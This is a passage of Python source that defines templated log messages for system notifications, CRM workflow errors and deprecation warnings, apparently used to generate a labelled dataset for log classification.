         "Scheduled report '{report_name}' delivered to {small_n} recipients"),
        ("cron_exit_zero", "[cron] {job_name} ran at {hms}, exit status 0"),
        ("maintenance_mode_off",
         "Maintenance mode disabled; {service} is accepting traffic again"),
        ("retention_purge",
         "Data retention job purged {record_count} records older than {days} days"),
        ("spring_started",
         "Started {service} in {seconds}.{small_n} seconds (process running for "
         "{seconds}.{small_n_2})"),
        ("cron_cmd",
         "{hostname_short} CRON[{pid}]: ({unix_user}) CMD (/usr/local/bin/{job_name}.sh)"),
        ("search_index_refreshed",
         "Search index '{index}' refreshed with {record_count} documents"),
        # --- JSON events the platform emits on its own
        ("json_backup_completed",
         '{{"event": "backup.completed", "msg": "scheduled backup completed", "db": "{db}", '
         '"size_gb": {size_gb}, "duration": "{duration_human}"}}'),
        ("json_job_finished",
         '{{"level": "info", "msg": "scheduled job finished", "job": "{job_name}", '
         '"records": {record_count}, "status": "ok"}}'),
        ("json_cert_renewed",
         '{{"event": "certificate.renewed", "msg": "certificate renewed automatically", '
         '"domain": "{domain}", "expires": "{future_date}"}}'),
        ("json_k8s_pulled_event",
         '{{"type": "Normal", "reason": "Pulled", "object": "pod/{container}", "message": '
         '"Successfully pulled image registry.internal/{service}:{version} in '
         '{pull_time}"}}', CLOUD),
        ("json_report_delivered",
         '{{"event": "report.delivered", "msg": "scheduled report delivered by email", '
         '"report": "{report_name}", "recipients": {small_n}}}', ANALYTICS),
        ("json_autoscaler_scaled",
         '{{"component": "autoscaler", "msg": "scaled deployment {service} from {replicas_from} to '
         '{replicas_to} replicas"}}'),
        # --- key=value
        ("kv_leader_elected",
         'level=info msg="leader elected" node={hostname_short} term={record_count}'),
        ("kv_deploy_success",
         "event=deploy status=success service={service} version={version} "
         "duration={duration_human} triggered_by=pipeline"),
        ("kv_job_completed",
         "job={job_name} status=completed rows={record_count} took={duration_human}"),
        ("kv_cache_warmed",
         'msg="cache warmed" cache="{cache_name}" entries={record_count} took={seconds}s'),
        # --- syslog / systemd / kernel / container runtime
        ("anacron_job_terminated", "anacron[{pid}]: Job `cron.{cron_period}' terminated"),
        ("systemd_finished", "systemd[1]: Finished {unit_description}."),
        ("systemd_reached_target", "systemd[1]: Reached target {systemd_target}."),
        ("ext4_mounted",
         "kernel: EXT4-fs ({partition}): mounted filesystem with ordered data mode. Quota "
         "mode: none."),
        ("containerd_pull",
         'containerd[{pid}]: PullImage "registry.internal/{service}:{version}" returns image '
         'reference "sha256:{hex16}"', CLOUD),
        ("kubelet_pulled",
         'kubelet[{pid}]: Successfully pulled image "registry.internal/{service}:{version}" '
         "in {pull_time}", CLOUD),
        ("unattended_upgrades",
         "unattended-upgrades: Packages that were upgraded: {packages}"),
        ("ntpd_synchronized",
         "ntpd[{pid}]: synchronized to {ip_internal}, stratum {small_n}"),
        ("crond_cmd_rhel",
         "{syslog_time} {hostname_short} crond[{pid}]: ({unix_user}) CMD (run-parts "
         "/etc/cron.{cron_period})"),
        ("cron_run_parts",
         "/usr/sbin/cron[{pid}]: (root) CMD (cd / && run-parts --report "
         "/etc/cron.{cron_period})"),
        # --- bracketed component prefix
        ("bracket_deploy_rolled_out",
         "[deploy] {service} {version} rolled out to {small_n} pods"),
        ("bracket_scheduler_completed",
         "[scheduler] job {job_name} {done} in {duration_human}"),
        ("bracket_mailer_digest",
         "[mailer] weekly digest sent to {record_count} subscribers"),
        ("bracket_backup_uploaded",
         "[backup] snapshot of {db} uploaded to s3://{bucket}/{date_plain}/"),
        ("bracket_registry_pushed",
         "[registry] image {service}:{version} pushed by CI pipeline #{run_id}"),
        # --- plain sentences
        ("deployment_completed",
         "Deployment of {service} version {version} {done} on {small_n} nodes"),
        ("daily_report_emailed",
         "Daily sales report was emailed to the finance distribution list", ANALYTICS),
        ("invoice_run_finished",
         "Invoice run for {billing_month} finished: {record_count} invoices generated",
         BILLING),
        ("payroll_batch_processed",
         "Payroll batch for week {week} processed automatically", HR),
        ("partner_sync_finished",
         "Nightly data sync with {partner_api} finished; {record_count} records updated"),
        ("autoscaler_added_instances",
         "Autoscaler added {small_n} instances to {service} after the scale-out policy "
         "triggered"),
        ("failover_test_completed",
         "Scheduled failover test completed; primary and replica roles restored"),
        ("migration_applied",
         "Database migration {rev} applied automatically during the release of {service}"),
        ("usage_summary_sent",
         "Monthly usage summary generated and sent to {small_n} account owners"),
        # --- terse
        ("terse_deploy_ok", "deploy ok: {service} v{version} live on {small_n} nodes"),
        ("terse_cron_done", "cron: {job_name} done in {seconds}s"),
        ("terse_backup_done", "backup done: {db} ({size_gb} GB)"),
        ("terse_pulled", "pulled {service}:{version} ({size_kb} MB)"),
        ("xfs_mounting", "kernel: XFS ({partition}): Mounting V5 Filesystem"),
        ("chronyd_selected_source", "chronyd[{pid}]: Selected source {ip_internal}"),
        ("timesyncd_initial_sync",
         "systemd-timesyncd[{pid}]: Initial synchronization to time server "
         "{ip_internal}:123 (ntp.ubuntu.com)."),
        ("bracket_report_mailed",
         "[reports] scheduled export '{report_name}' generated and emailed automatically",
         ANALYTICS),
        ("kv_report_mailer",
         "job=report-mailer status=sent report={report_name} recipients={small_n} "
         "trigger=schedule"),
        # --- documents and runs produced by the system on a schedule
        ("scheduler_emailed_kpi",
         "The scheduler emailed the weekly KPI report to {small_n} recipients", ANALYTICS),
        ("payslips_generated",
         "Automatic payslip generation for {billing_month} {done} for {record_count} "
         "employees", HR),
        ("statements_generated",
         "Monthly statements generated automatically for {record_count} customers", BILLING),
        # --- cluster and deployment events
        ("raft_leader_elected",
         "Raft node {hostname_short} elected leader for term {record_count}"),
        ("bracket_cluster_leader", "[cluster] {hostname_short} is now the leader"),
        ("json_image_pulled",
         '{{"level": "info", "msg": "image pulled successfully", "image": '
         '"registry.internal/{service}:{version}"}}'),
        ("json_deployment_succeeded",
         '{{"event": "deployment.succeeded", "msg": "deployment finished successfully", '
         '"service": "{service}", "version": "{version}"}}'),
    ],
)

WORKFLOW_ERROR = LabelSpec(
    label="Workflow Error",
    slug="workflow_error",
    share=0.05,
    sources={"LegacyCRM": 1},
    templates=[
        ("escalation_inactive_agent",
         "Case escalation for ticket ID {ticket_id} failed because the assigned support "
         "agent is no longer active."),
        ("invoice_tax_module",
         "Invoice generation aborted for order ID {order_id} due to invalid tax "
         "calculation module."),
        ("lead_conversion_contact",
         "Lead conversion failed for prospect ID {prospect_id} due to missing contact "
         "information."),
        ("approval_routing_broken",
         "Approval routing for quote {quote_id} is broken: no approver is configured for "
         "a {pct_discount}% discount."),
        ("customer_sync_stalled",
         "Customer record sync stalled for account {account_id}; {small_n} pending updates "
         "are stuck in the outbound queue."),
        ("workflow_required_field",
         "Workflow '{workflow_name}' halted at step {small_n} ('{step_name}'): required "
         "field '{crm_field}' is empty."),
        ("territory_no_owner",
         "Could not assign opportunity OPP-{opp_id} to territory {territory}: territory "
         "rules returned no owner."),
        ("renewal_owner_deactivated",
         "Renewal reminder for contract {contract_id} was not sent because the account "
         "owner has been deactivated."),
        ("order_retired_warehouse",
         "Order {order_id} stuck in 'Pending Fulfilment': shipping rule references "
         "retired warehouse {warehouse}."),
        ("merge_rolled_back",
         "Merge of duplicate accounts {account_id} and {account_id_2} rolled back due to "
         "conflicting billing contacts."),
        ("sla_calendar_missing",
         "SLA timer for case {ticket_id} not started: business hours calendar "
         "'{calendar}' is missing."),
        ("commission_period_open",
         "Commission calculation for sales rep {rep_id} skipped because quota period "
         "{quarter} has not been closed."),
        ("campaign_import_deleted_field",
         "Campaign {campaign_id} member import stopped: segment filter references deleted "
         "field '{crm_field}'."),
        ("refund_inactive_manager",
         "Refund request {refund_id} could not be routed to finance; the approval chain "
         "ends at an inactive manager."),
        ("round_robin_empty",
         "Auto-assignment rule '{rule_name}' failed for {small_n} new leads: round-robin "
         "queue has no members."),
        ("pricebook_inactive",
         "Quote-to-order handoff failed for quote {quote_id}: price book '{pricebook}' is "
         "inactive."),
        ("nurture_consent_unknown",
         "Contact {contact_id} was not enrolled in the nurture sequence because consent "
         "status is unknown."),
        ("close_case_kv",
         'legacy_crm.workflow step=CloseCase case={ticket_id} result=FAILED reason="child '
         'cases still open"'),
        ("escalation_rule_queue_deleted",
         "[WF-ENGINE] Escalation rule ESC-{small_n}{small_n_2} could not fire for ticket "
         "{ticket_id}: target queue '{crm_queue}' was deleted."),
        ("contract_activation_signature",
         "Contract {contract_id} activation blocked: e-signature step never completed by "
         "customer contact {contact_id}."),
        ("discount_approval_expired",
         "Discount approval for deal OPP-{opp_id} expired before the regional director "
         "responded; the deal was returned to draft."),
        ("auto_closure_survey",
         "Auto-closure of case {ticket_id} skipped because the satisfaction survey step "
         "never completed."),
        ("partner_lead_suspended",
         "Partner lead {prospect_id} could not be shared with the reseller because the "
         "partner account is suspended."),
        ("onboarding_no_csm",
         "Onboarding plan for account {account_id} cannot start: no customer success "
         "manager is assigned to the segment."),
        ("approval_no_delegate",
         "Approval request for expense report {record_id} timed out: approver {person} is "
         "on leave and no delegate is set."),
        ("quote_pdf_template_missing",
         "Quote {quote_id} could not be emailed: the PDF template linked to price book "
         "'{pricebook}' no longer exists."),
        ("assign_owner_kv",
         'legacy_crm.workflow step=AssignOwner lead={prospect_id} result=FAILED '
         'reason="owner queue empty"'),
        ("recursive_field_update",
         "[WF-ENGINE] Workflow '{workflow_name}' aborted after {small_n}0 iterations: a "
         "field update re-triggers the same rule."),
        ("case_reopen_archived",
         "Case {ticket_id} could not be reopened: parent account {account_id} is archived."),
        ("invoice_po_required",
         "Invoice {invoice_id} stuck in approval: a purchase order number is required for "
         "customers in {territory}."),
        ("lead_import_dedupe_rule",
         "Lead import batch {batch_id} halted at record {record_count}: duplicate rule "
         "'{rule_name}' references a deleted field."),
        ("renewal_product_not_in_pricebook",
         "Automatic renewal of contract {contract_id} failed because the product is not "
         "in price book '{pricebook}'."),
        ("escalation_ping_pong",
         "Escalation for ticket {ticket_id} bounced between queues '{crm_queue}' and "
         "'{crm_queue_2}' {small_n} times and was stopped."),
        ("step_timed_out_json",
         '{{"workflow": "{workflow_name}", "step": "{step_name}", "record": {record_id}, '
         '"status": "TIMED_OUT", "waited_hours": {small_n}{small_n_2}}}'),
        ("stage_validation_rule",
         "Opportunity OPP-{opp_id} cannot move to stage 'Closed Won': a validation rule "
         "requires field '{crm_field}'."),
        ("terse_wf_fail", "wf '{workflow_name}' #{record_id} failed at step '{step_name}'"),
        ("territory_realignment_skipped",
         "Territory realignment skipped {record_count} accounts in {territory}: no "
         "assignment rule matched."),
        ("email_alert_template_inactive",
         "Workflow email alert for case {ticket_id} not sent: the 'Case Closed' template "
         "for {calendar} is inactive."),
        ("quote_sync_locked",
         "Quote {quote_id} sync to opportunity OPP-{opp_id} failed: the opportunity is "
         "locked by a pending approval."),
        ("commission_split_total",
         "Commission split for deal OPP-{opp_id} rejected: split percentages add up to "
         "{pct_discount}0% instead of 100%."),
        ("fulfilment_queue_unmapped",
         "Fulfilment task for order {order_id} was not created: no fulfilment queue is "
         "mapped to warehouse {warehouse}."),
    ],
)

DEPRECATION_WARNING = LabelSpec(
    label="Deprecation Warning",
    slug="deprecation_warning",
    share=0.05,
    sources={"LegacyCRM": 1},
    templates=[
        ("module_retired",
         "The '{legacy_module}' module will be retired in version {major_version}. Please "
         "migrate to the '{new_module}' by {month_year}."),
        ("endpoint_removed",
         "API endpoint '{old_endpoint}' is deprecated and will be removed in version "
         "{minor_version}. Use '{new_endpoint}' instead."),
        ("legacy_auth_discontinued",
         "Support for legacy authentication methods will be discontinued after "
         "{future_date}."),
        ("python_style_warning",
         "DeprecationWarning: {old_func}() is deprecated since {minor_version} and will be "
         "removed in {major_version}; call {new_func}() instead"),
        ("soap_shutdown",
         "SOAP interface {soap_service} is scheduled for shutdown on {future_date}; switch "
         "to the REST API."),
        ("field_stops_syncing",
         "Field '{crm_field}' on object {crm_object} is deprecated and will stop syncing "
         "after release {minor_version}."),
        ("export_format_unmaintained",
         "Warning: export format '{old_format}' is no longer maintained and will be "
         "removed in the next major release."),
        ("plugin_end_of_life",
         "The {legacy_module} plugin reaches end-of-life in {month_year}; no further "
         "patches will be issued after that date."),
        ("config_key_renamed",
         "Config key '{config_key}' is deprecated and will be ignored starting "
         "v{minor_version}. Rename it to '{config_key}_v2'."),
        ("report_engine_sunset",
         "[DEPRECATED] Report template '{report_name}' relies on the classic reporting "
         "engine, which is being sunset on {future_date}."),
        ("tls_legacy_refused",
         "Connections using TLS 1.0/1.1 to the CRM gateway will be refused from "
         "{future_date}. Upgrade your integration client."),
        ("import_tool_obsolete",
         "Batch import tool v{minor_version} is obsolete and will be disabled in "
         "{quarter}; use the Data Loader instead."),
        ("hook_api_version",
         "Custom script hook '{hook}' targets API version {api_version}, which reaches end "
         "of support on {future_date}."),
        ("deprecated_call_terse",
         "legacy_crm: deprecated call {old_endpoint} from client {client_id} (removal "
         "planned for {major_version})"),
        ("mail_connector_phase_out",
         "Notice: the on-premise mail connector is being phased out in version "
         "{major_version}. Migrate mailboxes to the cloud mail integration."),
        ("formula_syntax",
         "Workflow rule '{rule_name}' uses the old formula syntax, which will no longer be "
         "evaluated after {month_year}."),
        ("python2_scripts",
         "Python 2 runtime for custom scripts is deprecated; scripts will stop executing "
         "after {future_date}."),
        ("classic_ui",
         "The classic UI theme is deprecated and will be removed in {major_version}; switch "
         "to the new workspace layout."),
        ("parameter_ignored",
         "Warning: parameter 'includeInactive' of {old_endpoint} is deprecated and has been "
         "ignored since {minor_version}."),
        ("ftp_export",
         "Data export over FTP is deprecated. SFTP will be required from {month_year}."),
        ("legacy_header",
         "Header X-Legacy-Auth is deprecated; requests that send it will be rejected after "
         "{future_date}."),
        ("old_mobile_versions",
         "Mobile app versions older than {minor_version} are no longer supported and will "
         "be blocked on {future_date}."),
        ("kv_deprecated_api",
         "legacy_crm.api level=WARN deprecated=true endpoint={old_endpoint} "
         "replacement={new_endpoint} sunset={future_date}"),
        ("json_deprecation",
         '{{"level": "warn", "type": "deprecation", "message": "{legacy_module} is deprecated '
         'and will be removed in {major_version}", "replacement": "{new_module}"}}'),
        ("sunset_header",
         "Response for {old_endpoint} carried header Sunset: {future_date}; clients must "
         "move to {new_endpoint}."),
        ("ie11_support",
         "Internet Explorer 11 support for the agent console ends on {future_date}."),
        ("sha1_saml",
         "SAML assertions signed with SHA-1 are deprecated and will be rejected from "
         "{month_year}."),
        ("schema_v1_objects",
         "Custom object definitions in schema v1 are deprecated; convert them before "
         "release {major_version}."),
        ("field_read_only_bracket",
         "[deprecation] Field {crm_object}.{crm_field} becomes read-only in {minor_version} "
         "and will be removed in {major_version}."),
        ("soap_basic_auth",
         "Basic authentication for the SOAP API is deprecated; switch to OAuth 2.0 client "
         "credentials before {future_date}."),
        ("java8_connector",
         "The Java 8 build of the CRM connector is deprecated and will not receive updates "
         "after {month_year}."),
        ("outlook_addin",
         "Outlook add-in {minor_version} is deprecated; install the new add-in before "
         "{future_date}."),
        ("terse_deprecated",
         "deprecated: {old_func} -> {new_func} (removal in {major_version})"),
        ("classic_workflow_actions",
         "Classic workflow actions are being retired in {quarter}; rebuild "
         "'{workflow_name}' in the flow builder."),
        ("api_version_retired",
         "API version {api_version} is deprecated and will be retired on {future_date}; "
         "{small_n} integrations still call it."),
        ("import_option_removed",
         "Import option '{old_format}' is deprecated and will be removed in "
         "{major_version}."),
        ("mobile_sdk",
         "Mobile SDK {minor_version} is deprecated; apps built with it stop syncing after "
         "{month_year}."),
        ("legacy_scheduler",
         "Scheduled script '{hook}' uses the legacy scheduler, which will be switched off "
         "on {future_date}."),
        ("territory_management_v1",
         "Territory management 1.0 is deprecated; enable the new territory model before "
         "{month_year}."),
        ("email_relay",
         "Email-to-case through the legacy relay is deprecated and will stop forwarding "
         "mail after {future_date}."),
        ("warn_module_prefix",
         "WARN [{legacy_module}] deprecated, removal planned for {major_version}; see the "
         "migration guide for '{new_module}'."),
    ],
)

LABEL_SPECS: tuple[LabelSpec, ...] = (
    HTTP_STATUS,
    RESOURCE_USAGE,
    SECURITY_ALERT,
    CRITICAL_ERROR,
    ERROR,
    USER_ACTION,
    SYSTEM_NOTIFICATION,
    WORKFLOW_ERROR,
    DEPRECATION_WARNING,
)
